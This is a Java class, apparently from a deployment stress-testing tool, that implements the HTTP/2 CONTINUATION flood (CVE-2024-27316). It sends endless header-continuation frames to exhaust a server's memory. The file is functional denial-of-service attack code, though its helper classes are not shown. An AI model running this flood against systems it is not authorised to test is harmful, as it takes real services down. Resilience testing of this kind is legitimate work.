package dev.seawall.deploy.flood.attack;

import java.io.IOException;

/**
 * A request's header that goes on and on in CONTINUATION frames (CVE-2024-27316 and its like): a server that gathers it
 * before it looks at its size runs out of memory. An operation is one frame of about a kilobyte. Nothing may come between
 * them (RFC 9113 §6.10), so what the server asks meanwhile stays unanswered. Threads as {@link Talk} has them.
 */
final class EndlessHeader extends Http2Talk {
    private static final int STREAM = 1;

    private final Wire wire;
    private final byte[] request;
    private final byte[] more = Http2.frame(Http2.CONTINUATION, 0, STREAM, Http2.field("x-more", "m".repeat(1_000)));

    EndlessHeader(Wire wire, Tally tally, boolean tls, String path, String authority) throws IOException {
        super(wire, tally);
        this.wire = wire;
        request = Http2.get(tls, path, authority);
    }

    @Override
    void opened() throws IOException {
        wire.send(Http2.frame(Http2.HEADERS, Http2.END_STREAM, STREAM, request));
    }

    @Override
    public void say() throws IOException {
        wire.send(more);
    }

    @Override
    boolean mayInterrupt() {
        return false;
    }
}
